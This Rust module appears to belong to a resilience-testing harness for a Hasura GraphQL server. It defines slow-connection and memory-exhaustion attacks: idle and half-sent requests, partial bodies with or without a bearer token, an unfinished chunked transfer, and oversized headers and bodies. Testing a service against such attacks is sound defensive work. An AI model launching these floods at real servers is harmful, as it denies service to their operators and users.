//! Connections that cost a server memory or a place, mostly without a secret.

use std::sync::Arc;

use anyhow::Result;

use super::{Begin, Target, wire};

/// Connections per step.
const CONNECTIONS: usize = 100;
const MIB: usize = 1024 * 1024;

pub(super) const ATTACKS: &[(&str, Begin)] = &[
    ("idle connections", |target| {
        Box::pin(async move { wire::many(&target.engine, CONNECTIONS, b"").await })
    }),
    ("half heads", |target| {
        Box::pin(async move {
            let head = format!("POST /v1/graphql HTTP/1.1\r\nhost: {}\r\nx-part: ", target.engine);
            wire::many(&target.engine, CONNECTIONS, head.as_bytes()).await
        })
    }),
    ("idle keep-alive", |target| {
        Box::pin(async move {
            let request = format!("GET /v1/version HTTP/1.1\r\nhost: {}\r\n\r\n", target.engine);
            wire::many(&target.engine, CONNECTIONS, request.as_bytes()).await
        })
    }),
    ("half bodies without a secret", |target| {
        Box::pin(half_bodies(target, String::new()))
    }),
    ("half bodies of a customer", |target| {
        let token = format!("authorization: Bearer {}\r\n", target.token);
        Box::pin(half_bodies(target, token))
    }),
    ("half chunks", |target| {
        Box::pin(async move {
            let mut request = head(&target, "transfer-encoding: chunked\r\n");
            request.push_str("fffff\r\n");
            request.push_str(&" ".repeat(MIB / 2));
            wire::many(&target.engine, CONNECTIONS / 5, request.as_bytes()).await
        })
    }),
    ("large body with a wrong secret", |target| {
        Box::pin(async move {
            let length = 32 * MIB;
            let headers = format!("content-length: {length}\r\nx-hasura-admin-secret: wrong\r\n");
            let mut stream = wire::send(&target.engine, head(&target, &headers).as_bytes()).await?;
            Ok(wire::answer(&mut stream).await)
        })
    }),
    ("large session variables", |target| {
        Box::pin(async move {
            let headers = format!(
                "content-length: 2\r\nx-hasura-user-id: {}\r\n",
                "x".repeat(300 * 1024)
            );
            let mut stream = wire::send(&target.engine, head(&target, &headers).as_bytes()).await?;
            Ok(wire::answer(&mut stream).await)
        })
    }),
];

async fn half_bodies(target: Arc<Target>, authorization: String) -> Result<String> {
    let headers = format!("content-length: {}\r\n{authorization}", 2 * MIB);
    let mut request = head(&target, &headers);
    request.push_str(&" ".repeat(MIB));
    wire::many(&target.engine, CONNECTIONS / 5, request.as_bytes()).await
}

/// The head of a GraphQL request with further header lines.
fn head(target: &Target, headers: &str) -> String {
    format!(
        "POST /v1/graphql HTTP/1.1\r\nhost: {}\r\ncontent-type: application/json\r\n{headers}\r\n",
        target.engine
    )
}
